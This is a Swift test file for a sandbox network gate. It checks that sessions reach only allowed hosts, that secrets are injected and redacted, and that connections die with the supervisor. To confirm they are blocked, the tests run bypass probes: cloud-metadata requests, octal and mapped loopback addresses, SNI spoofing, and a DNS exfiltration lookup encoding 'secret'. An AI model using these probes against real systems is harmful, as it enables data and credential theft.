// SPDX-License-Identifier: Apache-2.0
// A session's network as its programs find it: names that are allowed, to a server of the test's own, and nothing else.

import Foundation
import Glibc
import RemitTesting
import Testing

/// Whether the gate is beside the binary under test.
private let hasGate: Bool = {
    let directory = URL(filePath: Playground.binary).deletingLastPathComponent().path
    return FileManager.default.isExecutableFile(atPath: directory + "/remit-egress")
}()

extension CLI {
    @Suite(.enabled(if: hasGate, "remit-egress is not beside the binary under test"))
    struct EgressTests {
        /// A TLS server on a port of 127.0.0.1 for the names of its certificate, and an operator who lets sessions reach it.
        private final class Place {
            let playground: Playground
            let port: Int
            private let server: RunningCommand

            init() throws {
                playground = try Playground()
                let certificate = try playground.shell(
                    """
                    cd \(playground.scratch) && openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes \
                    -keyout key.pem -out certificate.pem -days 2 -subj /CN=test \
                    -addext subjectAltName=DNS:api.test.example,DNS:other.test.example
                    """)
                guard certificate.exit == 0 else { throw TestingError("openssl: \(certificate)") }
                server = try playground.start(
                    python: resourcePath("tls_server.py"), playground.scratch)
                try server.waitForOutput("port ")
                let words = String(decoding: server.output, as: UTF8.self).split(whereSeparator: \.isWhitespace)
                port = Int(words.last ?? "") ?? 0
                try playground.configure(
                    """
                    network:
                      hosts:
                        api.test.example: [127.0.0.1]
                        other.test.example: [127.0.0.1]
                      authorities: [\(playground.scratch)/certificate.pem]

                    """
                )
                // What the session trusts inside is the host's affair: the test's certificate is given to its programs.
                try playground.write(
                    Files.text(playground.scratch + "/certificate.pem") ?? "", to: playground.workspace + "/ca.pem")
            }

            func tearDown() {
                server.signal(SIGTERM)
                _ = server.finish()
                playground.tearDown()
            }

            /// Runs a shell script in a session that may reach `api.test.example` on the server's port.
            func run(_ script: String, rule: String = "", more: String = "") throws -> CommandResult {
                let task = try playground.boundedTask(
                    script,
                    more: """
                        network:
                          allow:
                            - {host: api.test.example, ports: [\(port)], addresses: [127.0.0.0/8], opaque: false\(rule)}
                        \(more)
                        """
                )
                return try playground.remit(["run", "-f", task, "--status-fd", "3"], within: .seconds(60))
            }
        }

        @Test func `programs that know nothing of a proxy reach the name, and programs that do as well`() throws {
            let place = try Place()
            defer { place.tearDown() }
            let result = try place.run(
                """
                url=https://api.test.example:\(place.port)/hello
                echo direct $(curl -sS --max-time 20 --noproxy '*' --cacert ca.pem $url 2>&1)
                echo connect $(curl -sS --max-time 20 --cacert ca.pem $url 2>&1)
                echo socks $(curl -sS --max-time 20 --proxy socks5h://198.18.0.1:3128 --cacert ca.pem $url 2>&1)
                echo python $(python3 -c "$FETCH" \(place.port))
                """,
                more: "environment: {FETCH: \(quoted(Self.fetch))}")
            let lines = result.text.split(separator: "\n").map(String.init)
            #expect(
                lines == ["direct hello", "connect hello", "socks hello", "python hello"], "\(result)")
        }

        private static let fetch = """
            import socket, ssl, sys
            context = ssl.create_default_context(cafile="ca.pem")
            raw = socket.create_connection(("api.test.example", int(sys.argv[1])), 20)
            s = context.wrap_socket(raw, server_hostname="api.test.example")
            s.sendall(b"GET /hello HTTP/1.0\\r\\nHost: api.test.example\\r\\n\\r\\n")
            data = b""
            while True:
                piece = s.recv(4096)
                if not piece: break
                data += piece
            print(data.split(b"\\r\\n\\r\\n")[1].decode())
            """

        @Test func `nothing else is reached, and every attempt is on record`() throws {
            let place = try Place()
            defer { place.tearDown() }
            let result = try place.run(
                """
                try() { name=$1; shift; if "$@" >/dev/null 2>&1; then echo "$name through"; else echo "$name held"; fi; }
                try other curl -fsS --max-time 10 --noproxy '*' -k https://other.test.example:\(place.port)/hello
                try other-proxy curl -fsS --max-time 10 -k https://other.test.example:\(place.port)/hello
                try port curl -fsS --max-time 10 --noproxy '*' -k https://api.test.example:\(place.port + 1)/hello
                try loopback curl -fsS --max-time 10 --noproxy '*' -k https://127.0.0.1:\(place.port)/hello
                try literal curl -fsS --max-time 10 -k https://127.0.0.1:\(place.port)/hello --noproxy ''
                try mapped curl -fsS --max-time 10 -k --noproxy '' 'https://[::ffff:127.0.0.1]:\(place.port)/hello'
                try octal curl -fsS --max-time 10 -k --proxy http://198.18.0.1:3128 --noproxy '' http://0177.0.0.1:\(place.port)/
                try metadata curl -fsS --max-time 10 --noproxy '' http://169.254.169.254/latest/meta-data/
                try metadata-direct curl -fsS --max-time 10 --noproxy '*' http://169.254.169.254/latest/meta-data/
                try sni curl -fsS --max-time 10 --noproxy '*' -k --connect-to ::api.test.example:\(place.port) \
                    https://other.test.example:\(place.port)/hello
                try exfiltration getent ahosts c2VjcmV0.exfil.test.example
                try plain curl -fsS --max-time 10 --noproxy '*' http://api.test.example:\(place.port)/hello
                """)
            for line in result.text.split(separator: "\n") { #expect(line.hasSuffix(" held"), "\(line)") }
            #expect(result.text.split(separator: "\n").count == 12, "\(result)")
            let session = try #require(result.session)
            let log = try place.playground.remit("logs", "--egress", session, "--format", "json").text
            let records = try log.split(separator: "\n").map { try JSON.parse(Array($0.utf8)) }
            #expect(!records.contains { $0["verdict"].text == "allow" && $0["name"].text == "other.test.example" })
            for name in ["other.test.example", "c2vjcmv0.exfil.test.example"] {
                #expect(records.contains { $0["verdict"].text == "deny" && $0["name"].text == name }, "\(name): \(log)")
            }
        }

        @Test func `garbage to every listener ends connections, and neither the gate nor the session`() throws {
            let place = try Place()
            defer { place.tearDown() }
            let garbage = """
                import os, socket
                places = [("127.0.0.53", 53), ("198.18.0.1", 3128), ("198.18.0.1", 80), ("198.18.9.9", 443),
                          ("127.0.0.1", 1), ("::1", 1), ("fd00:7265:6d69::99", 443)]
                heads = [b"", b"CONNECT ", b"GET http://", b"\\x05\\x01", b"\\x16\\x03\\x01\\xff\\xff", b"\\0\\xff"]
                for address, port in places:
                    for head in heads:
                        for size in (0, 1, 700, 70000):
                            try:
                                s = socket.create_connection((address, port), 5)
                                s.settimeout(0.05)
                                s.sendall(head + os.urandom(size))
                                s.recv(10)
                                s.close()
                            except OSError:
                                pass
                u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                for size in range(0, 600, 3):
                    try: u.sendto(os.urandom(size), ("127.0.0.53", 53))
                    except OSError: pass
                """
            let result = try place.run(
                """
                python3 -c "$GARBAGE"
                curl -sS --max-time 20 --noproxy '*' --cacert ca.pem https://api.test.example:\(place.port)/hello
                """,
                more: "environment: {GARBAGE: \(quoted(garbage))}")
            #expect(result.exit == 0 && result.text == "hello", "\(result)")
        }

        @Test func `the fence cuts fifty open streams, and says how long that took`() throws {
            let place = try Place()
            defer { place.tearDown() }
            let streams = """
                import socket, ssl, sys, time
                context = ssl.create_default_context(cafile="ca.pem")
                open_ones = []
                for _ in range(50):
                    s = context.wrap_socket(socket.create_connection(("api.test.example", int(sys.argv[1])), 20),
                                            server_hostname="api.test.example")
                    s.sendall(b"GET /stream HTTP/1.0\\r\\n\\r\\n")
                    s.recv(1)
                    open_ones.append(s)
                print("open", flush=True)
                while True:
                    for s in open_ones: s.recv(1)
                """
            let task = try place.playground.boundedTask(
                "python3 -c \"$STREAMS\" \(place.port)",
                more: """
                    network: {allow: [{host: api.test.example, ports: [\(place.port)], addresses: [127.0.0.0/8]}]}
                    environment: {STREAMS: \(quoted(streams))}
                    """)
            let command = try place.playground.start(["run", "-f", task, "--status-fd", "3"])
            try command.waitForOutput("open", within: .seconds(40))
            let session = try command.session()
            #expect(try place.playground.remit("kill", session).exit == 0)
            _ = command.finish()
            let text = try place.playground.remit("journal", "show", session, "--format", "json").text
            let records = try text.split(separator: "\n").map { try JSON.parse(Array($0.utf8)) }
            let fence = try #require(records.first { $0["type"].text == "egress.fenced" })["body"]
            #expect(fence["microseconds"].integer ?? .max < 50_000 * patience, "\(fence)")
            if fence["by"].text == "gate" { #expect(fence["connections"].integer == 50, "\(fence)") }
        }

        @Test func `a key is added outside, taken out of answers, and stopped anywhere else`() throws {
            let place = try Place()
            defer { place.tearDown() }
            let key = "sk-ant-api03-abcdefghijklmnopqrstuvwxyz0123456789"
            place.playground.environment["REAL_KEY"] = key
            try place.playground.configure(
                """
                network:
                  hosts: {api.test.example: [127.0.0.1], other.test.example: [127.0.0.1]}
                  authorities: [\(place.playground.scratch)/certificate.pem]
                providers:
                  api:
                    kind: secret
                    from: {env: REAL_KEY}
                    inject: {host: api.test.example, ports: [\(place.port)], header: authorization}

                """)
            let task = try place.playground.boundedTask(
                """
                api=https://api.test.example:\(place.port)/echo
                echo $KEY
                curl -sS --max-time 20 --noproxy '*' -H "Authorization: Bearer $KEY" $api
                curl -sS --max-time 20 -H "Authorization: Bearer $KEY" $api
                curl -sS --max-time 20 -o /dev/null -w '%{http_code}\\n' -H "X-Other: $KEY" $api
                curl -sS --max-time 20 -o /dev/null -w '%{http_code}\\n' -d "key=$KEY" https://other.test.example:\(place.port)/
                """,
                credentials: "credentials: [{name: api, provider: api, expose: env, variable: KEY}]",
                more: """
                    outcome: {changed: []}
                    network:
                      allow:
                        - {host: api.test.example, ports: [\(place.port)], addresses: [127.0.0.0/8]}
                        - {host: other.test.example, ports: [\(place.port)], addresses: [127.0.0.0/8], http: {methods: [GET, POST]}}
                    """)
            let result = try place.playground.remit(["run", "-f", task, "--status-fd", "3"], within: .seconds(60))
            let lines = result.text.split(separator: "\n").map(String.init)
            #expect(lines.count == 5, "\(result)")
            let placeholder = lines.first ?? ""
            #expect(placeholder.count == key.count && placeholder != key)
            // The server saw the key: it says how long what it got was, and its digest; the answer has the placeholder.
            for line in lines.dropFirst().prefix(2) {
                #expect(line == "Bearer \(placeholder) \(Self.digest(of: "Bearer " + key))", "\(line)")
            }
            #expect(Array(lines.suffix(2)) == ["403", "403"], "\(lines)")
            #expect(result.events.filter { $0["event"].text == "tripwire" }.count == 2)
            let kept = try place.playground.shell("grep -rl \(key) \(place.playground.state)")
            #expect(kept.text.isEmpty, "the real key is in \(kept.text)")
        }

        @Test(.enabled(if: isRoot, "only root may look into every process"))
        func `a key from the environment is in the supervisor and its gate, and in no other process`() throws {
            let place = try Place()
            defer { place.tearDown() }
            let key =
                "sk-ant-api03-" + (0..<40).map { _ in String("abcdefghijkmnpqrstuvwxyz".randomElement()!) }.joined()
            place.playground.environment["REAL_KEY"] = key
            try place.playground.configure(
                """
                network:
                  hosts: {api.test.example: [127.0.0.1]}
                  authorities: [\(place.playground.scratch)/certificate.pem]
                providers:
                  api:
                    kind: secret
                    from: {env: REAL_KEY}
                    inject: {host: api.test.example, ports: [\(place.port)], header: authorization}

                """)
            let task = try place.playground.boundedTask(
                """
                curl -sS --max-time 20 -H "Authorization: Bearer $REAL_KEY" https://api.test.example:\(place.port)/echo
                echo ready; while [ ! -e go ]; do sleep 0.1; done
                """,
                // The agent's variable has the name of the operator's, as programs want it.
                credentials: "credentials: [{name: api, provider: api, expose: env, variable: REAL_KEY}]",
                more: """
                    outcome: {changed: [go]}
                    network: {allow: [{host: api.test.example, ports: [\(place.port)], addresses: [127.0.0.0/8]}]}
                    """)
            let command = try place.playground.start(["run", "-f", task, "--status-fd", "3"])
            try command.waitForOutput("ready", within: .seconds(40))
            let initProcess = Int32(clamping: try command.waitForEvent("launched")["pid"].integer ?? 0)
            let family = ProcessTable.descendants(of: command.pid)
            let gates = family.filter { ProcessTable.status(of: $0)["Name"] == "remit-egress" }
            // The sandbox's first process and its agent, the gate and the guard.
            #expect(family.contains(initProcess) && gates.count == 1 && family.count >= 4, "\(family)")
            let pids = ([command.pid] + family).map { "\($0)" }
            let found = try place.playground.shell(
                "printf %s \(key) | python3 \(resourcePath("find_in_processes.py")) \(pids.joined(separator: " "))",
                within: .seconds(60))
            // That it is found where it has to be shows that it would be found elsewhere.
            let expected = Set(["\(command.pid) memory", "\(gates.first ?? 0) memory"])
            #expect(found.exit == 0 && Set(found.text.split(separator: "\n").map(String.init)) == expected, "\(found)")
            try place.playground.write("", to: place.playground.workspace + "/go")
            let result = command.finish(within: .seconds(60))
            #expect(result.exit == 0 && result.text.contains(Self.digest(of: "Bearer " + key)), "\(result)")
            #expect(!result.text.contains(key), "\(result)")
            let passed = try place.playground.remit("run", "--env", "REAL_KEY", "--", "/bin/true")
            #expect(passed.exit == 64 && passed.errors.contains("holds a provider's secret"), "\(passed)")
        }

        @Test(
            .enabled(if: isRoot && FileManager.default.isExecutableFile(atPath: "/usr/sbin/ip"), "needs root and ip(8)")
        )
        func `an address of this host's own is refused unless a rule names it, also a global one`() throws {
            let place = try Place()
            defer { place.tearDown() }
            try place.playground.configure(
                """
                network:
                  hosts: {api.test.example: [1.2.3.4]}
                  authorities: [\(place.playground.scratch)/certificate.pem]

                """)
            for (addresses, expected) in [("", "403 \n"), (", addresses: [1.2.3.4/32]", "200 hello\n")] {
                let task = try place.playground.boundedTask(
                    """
                    code=$(curl -s --max-time 20 --cacert ca.pem -o answer -w '%{http_connect}' https://api.test.example:4443/hello)
                    echo "$code $(cat answer 2>/dev/null)"
                    """,
                    more: """
                        outcome: {changed: []}
                        network: {allow: [{host: api.test.example, ports: [4443], opaque: false\(addresses)}]}
                        """)
                // A host of its own, whose only address besides the loopback's is one of the internet.
                let result = try place.playground.shell(
                    """
                    unshare --net sh -c '
                      ip link set lo up && ip address add 1.2.3.4/32 dev lo || exit 99
                      python3 "$1" "$2" 1.2.3.4 4443 > "$2/ready" & server=$!
                      for _ in $(seq 100); do grep -q port "$2/ready" && break; sleep 0.1; done
                      "$REMIT" run -f "$3"; code=$?; kill $server; exit $code
                    ' - \(resourcePath("tls_server.py")) \(place.playground.scratch) \(task)
                    """, within: .seconds(60))
                #expect(result.text == expected, "\(result)")
            }
        }

        private static func digest(of text: String) -> String {
            var sum: UInt32 = 5381
            for byte in text.utf8 { sum = sum &* 33 &+ UInt32(byte) }
            return "\(sum)"
        }

        @Test func `what is narrowed away is cut, and not found any more`() throws {
            let place = try Place()
            defer { place.tearDown() }
            let task = try place.playground.boundedTask(
                """
                url=https://api.test.example:\(place.port)/hello
                curl -sS --max-time 20 --noproxy '*' --cacert ca.pem $url; echo; echo ready
                while [ ! -e go ]; do sleep 0.1; done
                curl -sS --max-time 20 --noproxy '*' --cacert ca.pem $url || echo refused
                """,
                more: "network: {allow: [{host: api.test.example, ports: [\(place.port)], addresses: [127.0.0.0/8]}]}")
            let command = try place.playground.start(["run", "-f", task, "--status-fd", "3"])
            try command.waitForOutput("ready", within: .seconds(40))
            let narrowed = try place.playground.remit(
                "narrow", try command.session(), "--deny-host", "api.test.example")
            #expect(narrowed.exit == 0, "\(narrowed)")
            try place.playground.write("", to: place.playground.workspace + "/go")
            let result = command.finish(within: .seconds(60))
            #expect(result.text == "hello\nready\nrefused\n", "\(result)")
        }

        @Test func `a killed supervisor takes gate and connections along`() throws {
            let place = try Place()
            defer { place.tearDown() }
            let task = try place.playground.boundedTask(
                "curl -sSN --noproxy '*' --cacert ca.pem https://api.test.example:\(place.port)/stream",
                more: "network: {allow: [{host: api.test.example, ports: [\(place.port)], addresses: [127.0.0.0/8]}]}")
            let command = try place.playground.start(["run", "-f", task, "--status-fd", "3"])
            try command.waitForOutput(".", within: .seconds(40))
            let gates = ProcessTable.children(of: command.pid).filter {
                ProcessTable.status(of: $0)["Name"]?.contains("remit-egress") == true
            }
            #expect(gates.count == 1, "\(gates)")
            command.signal(SIGKILL)
            _ = command.finish()
            #expect(eventually(within: .seconds(2)) { gates.allSatisfy { kill($0, 0) != 0 } })
        }

        @Test func `without a rule there is no gate, and everything is as without a network`() throws {
            let place = try Place()
            defer { place.tearDown() }
            let script =
                "cat /etc/resolv.conf; env | grep -ci proxy; ls /run/remit/trust 2>&1 | wc -l; echo {} > report.json"
            let result = try place.playground.remit(
                ["run", "-f", try place.playground.boundedTask(script), "--status-fd", "3"])
            #expect(result.text == "# no network\n0\n1\n", "\(result)")
            let receipt = try place.playground.receipt(try #require(result.session))
            #expect(receipt["egress"] == .null, "\(receipt["egress"])")
        }
    }
}

extension Playground {
    /// Starts a Python program of the tests'.
    fileprivate func start(python script: String, _ arguments: String...) throws -> RunningCommand {
        let kept = program
        defer { program = kept }
        program = "/usr/bin/python3"
        return try start([script] + arguments, status: false)
    }
}
